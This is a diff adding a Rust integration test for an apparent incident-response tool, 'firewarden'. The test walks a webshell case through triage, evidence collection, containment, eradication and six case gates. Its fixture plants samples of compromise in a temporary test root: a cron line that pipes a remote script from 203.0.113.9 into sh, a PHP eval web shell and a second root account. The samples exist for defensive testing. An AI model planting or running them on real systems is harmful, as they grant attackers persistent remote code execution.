@@ -1,0 +1,470 @@
+//! The case platform as a newcomer meets it: `firewarden server` started with one command,
+//! a case opened, the real outputs of `triage`, `collect`, `contain`, `eradicate` and
+//! `actions --export` pushed, and the case walked through its six gates. On SQLite and
+//! PostgreSQL.
+
+use std::io::{BufRead, BufReader};
+use std::path::Path;
+use std::process::{Child, Command, Output, Stdio};
+
+fn fw(args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_firewarden"))
+        .args(args)
+        .env("NO_COLOR", "1")
+        .env_remove("FIREWARDEN_SERVER")
+        .env_remove("FIREWARDEN_TOKEN")
+        .env_remove("FIREWARDEN_PIN")
+        .output()
+        .unwrap()
+}
+
+fn text(o: &Output) -> String {
+    format!(
+        "exit {:?}\n{}{}",
+        o.status.code(),
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    )
+}
+
+/// A server process, killed when dropped (also when the test fails).
+struct Server {
+    child: Child,
+    url: String,
+    pin: String,
+    token: String,
+}
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+fn start(data: &Path, database: Option<&str>) -> Server {
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_firewarden"));
+    cmd.args([
+        "server",
+        "--data",
+        data.to_str().unwrap(),
+        "--listen",
+        "127.0.0.1:0",
+    ]);
+    if let Some(db) = database {
+        cmd.args(["--database", db]);
+    }
+    let mut child = cmd
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut lines = BufReader::new(child.stderr.take().unwrap()).lines();
+    let (mut url, mut pin, mut token_file) = (None, None, None);
+    while url.is_none() || pin.is_none() || token_file.is_none() {
+        let Some(Ok(line)) = lines.next() else {
+            let _ = child.kill();
+            panic!("the server stopped before its banner");
+        };
+        if let Some(u) = line.strip_prefix("firewarden server listening on ") {
+            url = Some(u.to_owned());
+        } else if let Some(p) = line.strip_prefix("certificate pin: ") {
+            pin = Some(p.to_owned());
+        } else if line.starts_with("first start:") {
+            token_file = Some(data.join("bootstrap-token"));
+        }
+    }
+    // Keep draining the server's messages so it never blocks on a full pipe.
+    std::thread::spawn(move || for _ in lines {});
+    let token_file = token_file.unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    assert_eq!(
+        std::fs::metadata(&token_file).unwrap().permissions().mode() & 0o777,
+        0o600
+    );
+    Server {
+        child,
+        url: url.unwrap(),
+        pin: pin.unwrap(),
+        token: std::fs::read_to_string(token_file)
+            .unwrap()
+            .trim()
+            .to_owned(),
+    }
+}
+
+impl Server {
+    fn as_user(&self, token: &str, args: &[&str]) -> Output {
+        Command::new(env!("CARGO_BIN_EXE_firewarden"))
+            .args(args)
+            .env("NO_COLOR", "1")
+            .env("FIREWARDEN_SERVER", &self.url)
+            .env("FIREWARDEN_TOKEN", token)
+            .env("FIREWARDEN_PIN", &self.pin)
+            .output()
+            .unwrap()
+    }
+
+    fn ok(&self, token: &str, args: &[&str]) -> String {
+        let o = self.as_user(token, args);
+        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", text(&o));
+        String::from_utf8_lossy(&o.stdout).into_owned()
+    }
+
+    fn json(&self, token: &str, args: &[&str]) -> serde_json::Value {
+        let out = self.ok(token, &[args, &["--format", "json"]].concat());
+        serde_json::from_str(&out).unwrap_or_else(|e| panic!("{args:?}: {e}: {out}"))
+    }
+}
+
+fn write(root: &Path, path: &str, content: &str) {
+    let p = root.join(path.trim_start_matches('/'));
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    std::fs::write(p, content).unwrap();
+}
+
+/// The responder's work on site, offline: triage, evidence, containment, eradication,
+/// re-triage and the signed journal, all real outputs of the binary.
+struct OnSite {
+    _dir: tempfile::TempDir,
+    triage: String,
+    bundle: String,
+    journal: String,
+    retriage: String,
+}
+
+fn on_site() -> OnSite {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("root");
+    write(&root, "/etc/hostname", "web01\n");
+    write(
+        &root,
+        "/etc/passwd",
+        "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n",
+    );
+    write(
+        &root,
+        "/etc/crontab",
+        "SHELL=/bin/sh\n*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n",
+    );
+    write(
+        &root,
+        "/var/www/html/up.php",
+        "<?php @eval($_POST[\"c\"]); ?>\n",
+    );
+    let r = root.to_str().unwrap();
+    let w = |n: &str| dir.path().join(n).to_str().unwrap().to_owned();
+    let sd = w("state");
+    let run = |args: &[&str], codes: &[i32]| {
+        let o = fw(args);
+        assert!(
+            codes.contains(&o.status.code().unwrap_or(-1)),
+            "{args:?}: {}",
+            text(&o)
+        );
+    };
+    run(
+        &[
+            "triage",
+            "--root",
+            r,
+            "--format",
+            "json",
+            "-o",
+            &w("triage.json"),
+        ],
+        &[1],
+    );
+    run(&["keygen", "-o", &w("resp")], &[0]);
+    run(
+        &[
+            "collect",
+            "--root",
+            r,
+            "--key",
+            &w("resp.key"),
+            "-o",
+            &w("web01.fwb"),
+        ],
+        &[0, 1],
+    );
+    // The journal's times have whole seconds: the containment must come after the evidence.
+    std::thread::sleep(std::time::Duration::from_millis(1100));
+    run(
+        &[
+            "contain",
+            "file",
+            "/var/www/html/up.php",
+            "--root",
+            r,
+            "--state-dir",
+            &sd,
+            "--yes",
+        ],
+        &[0],
+    );
+    run(
+        &[
+            "eradicate",
+            "--from",
+            &w("triage.json"),
+            "--all",
+            "--root",
+            r,
+            "--state-dir",
+            &sd,
+            "--yes",
+        ],
+        &[0],
+    );
+    run(
+        &[
+            "triage",
+            "--root",
+            r,
+            "--format",
+            "json",
+            "-o",
+            &w("retriage.json"),
+        ],
+        &[0],
+    );
+    run(
+        &[
+            "actions",
+            "--state-dir",
+            &sd,
+            "--export",
+            &w("case.journal"),
+            "--key",
+            &w("resp.key"),
+        ],
+        &[0],
+    );
+    OnSite {
+        triage: w("triage.json"),
+        bundle: w("web01.fwb"),
+        journal: w("case.journal"),
+        retriage: w("retriage.json"),
+        _dir: dir,
+    }
+}
+
+#[test]
+fn a_case_walks_through_its_six_gates_with_real_results() {
+    let site = on_site();
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    let dbs = rt.block_on(firewarden_store::testdb::backends("cli_walk"));
+    for db in &dbs {
+        let data = tempfile::tempdir().unwrap();
+        // SQLite: the default, everything under --data. PostgreSQL: by URL.
+        let database = (db.backend == "postgres").then_some(db.url.as_str());
+        let server = start(&data.path().join("fw"), database);
+        let admin = server.token.clone();
+        let tenant = server.json(&admin, &["tenant", "add", "Acme Corp"]);
+        let t = tenant["id"].as_str().unwrap();
+        let made = server.json(
+            &admin,
+            &["user", "add", "lena", "--role", "lead", "--tenant", t],
+        );
+        let lead = made["token"].as_str().unwrap().to_owned();
+        let viewer = server.json(
+            &admin,
+            &[
+                "user",
+                "add",
+                "vic",
+                "--role",
+                "customer-viewer",
+                "--tenant",
+                t,
+            ],
+        );
+        let viewer = viewer["token"].as_str().unwrap().to_owned();
+        let case = server.json(
+            &lead,
+            &[
+                "case",
+                "new",
+                "--tenant",
+                t,
+                "--title",
+                "web01 webshell",
+                "--kind",
+                "webshell",
+                "--severity",
+                "high",
+            ],
+        );
+        let id = case["id"].as_str().unwrap().to_owned();
+        assert_eq!(case["stage"], "preparation");
+
+        // The customer's viewer reads but cannot push or move the case.
+        let o = server.as_user(&viewer, &["case", "push", "--case", &id, &site.triage]);
+        assert_eq!(o.status.code(), Some(2), "{}", text(&o));
+        assert!(text(&o).contains("403"), "{}", text(&o));
+
+        // Preparation: the gate says what is missing, exit 1.
+        let o = server.as_user(&lead, &["case", "stage", &id, "--advance"]);
+        assert_eq!(o.status.code(), Some(1), "{}", text(&o));
+        assert!(
+            text(&o).contains("[ ] preparation.authority"),
+            "{}",
+            text(&o)
+        );
+
+        let pushed = server.ok(&lead, &["case", "push", "--case", &id, &site.triage]);
+        assert!(pushed.contains("triage for web01"), "{pushed}");
+        server.ok(
+            &lead,
+            &[
+                "case",
+                "set",
+                &id,
+                "--authority",
+                "Engagement letter signed by the CISO, scope web01",
+            ],
+        );
+        server.ok(&lead, &["case", "stage", &id, "--advance"]);
+        // Detection: the analysis is in and names an entry point (or one is recorded).
+        let stage = server.json(&lead, &["case", "stage", &id]);
+        assert_eq!(stage["case"]["stage"], "detection", "{stage}");
+        if stage["facts"]["entry_point"].is_null() {
+            server.ok(
+                &lead,
+                &[
+                    "case",
+                    "set",
+                    &id,
+                    "--entry-point",
+                    "webshell upload through the CMS",
+                ],
+            );
+        }
+        server.ok(&lead, &["case", "stage", &id, "--advance"]);
+
+        // Containment: without the evidence the gate holds; the bundle is verified on push
+        // (a tampered copy is refused), then the journal is pushed.
+        let o = server.as_user(&lead, &["case", "push", "--case", &id, &site.journal]);
+        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+        let o = server.as_user(&lead, &["case", "stage", &id]);
+        assert_eq!(o.status.code(), Some(1), "{}", text(&o));
+        assert!(
+            text(&o).contains("[ ] containment.evidence_first"),
+            "{}",
+            text(&o)
+        );
+        let work = tempfile::tempdir().unwrap();
+        let tampered = work.path().join("web01.fwb");
+        let mut bytes = std::fs::read(&site.bundle).unwrap();
+        let last = bytes.len() - 40;
+        bytes[last] ^= 0x55;
+        std::fs::write(&tampered, bytes).unwrap();
+        std::fs::copy(
+            format!("{}.custody", site.bundle),
+            work.path().join("web01.fwb.custody"),
+        )
+        .unwrap();
+        let o = server.as_user(
+            &lead,
+            &[
+                "case",
+                "push",
+                "--case",
+                &id,
+                "--asset",
+                "web01",
+                tampered.to_str().unwrap(),
+            ],
+        );
+        assert_eq!(o.status.code(), Some(2), "{}", text(&o));
+        assert!(text(&o).contains("422"), "{}", text(&o));
+        let no_ledger = work.path().join("alone.fwb");
+        std::fs::copy(&site.bundle, &no_ledger).unwrap();
+        let o = server.as_user(
+            &lead,
+            &[
+                "case",
+                "push",
+                "--case",
+                &id,
+                "--asset",
+                "web01",
+                no_ledger.to_str().unwrap(),
+            ],
+        );
+        assert!(text(&o).contains("custody"), "{}", text(&o));
+        let pushed = server.ok(
+            &lead,
+            &[
+                "case",
+                "push",
+                "--case",
+                &id,
+                "--asset",
+                "web01",
+                &site.bundle,
+            ],
+        );
+        assert!(pushed.contains("evidence E"), "{pushed}");
+        let evidence = server.json(&lead, &["case", "show", &id]);
+        assert_eq!(evidence["id"], id.as_str());
+        server.ok(&lead, &["case", "stage", &id, "--advance"]);
+
+        // Eradication: the re-triage after the last eradication shows nothing left.
+        let o = server.as_user(&lead, &["case", "stage", &id]);
+        assert_eq!(o.status.code(), Some(1), "{}", text(&o));
+        server.ok(&lead, &["case", "push", "--case", &id, &site.retriage]);
+        server.ok(&lead, &["case", "stage", &id, "--advance"]);
+        // Recovery: the clean re-triage is the verification. Summary: no open task.
+        server.ok(&lead, &["case", "stage", &id, "--advance"]);
+        let closed = server.ok(&lead, &["case", "stage", &id, "--advance"]);
+        assert!(closed.contains("closed"), "{closed}");
+        let o = server.as_user(&lead, &["case", "stage", &id, "--advance"]);
+        assert_eq!(o.status.code(), Some(2), "{}", text(&o));
+
+        let shown = server.json(&viewer, &["case", "list"]);
+        assert_eq!(shown[0]["status"], "closed", "{shown}");
+        assert_eq!(shown[0]["stage"], "summary");
+        // The customer's viewer sees the case; the list as a table is readable.
+        let table = server.ok(&viewer, &["case", "list"]);
+        assert!(
+            table.contains("web01 webshell") && table.starts_with("ID"),
+            "{table}"
+        );
+
+        // The audit chain, checked offline by the server command.
+        drop(server);
+        let mut args = vec!["server", "audit", "--verify", "--data"];
+        let d = data.path().join("fw");
+        args.push(d.to_str().unwrap());
+        if let Some(db) = database {
+            args.extend(["--database", db]);
+        }
+        let o = fw(&args);
+        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+        assert!(text(&o).contains("chain intact"), "{}", text(&o));
+    }
+}
+
+#[test]
+fn the_server_refuses_plain_http_off_loopback_and_clients_need_settings() {
+    let data = tempfile::tempdir().unwrap();
+    let o = fw(&[
+        "server",
+        "--data",
+        data.path().to_str().unwrap(),
+        "--listen",
+        "0.0.0.0:0",
+        "--insecure-http",
+    ]);
+    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
+    assert!(text(&o).contains("loopback"), "{}", text(&o));
+    let o = fw(&["case", "list"]);
+    assert_eq!(o.status.code(), Some(2));
+    assert!(text(&o).contains("FIREWARDEN_SERVER"), "{}", text(&o));
+}
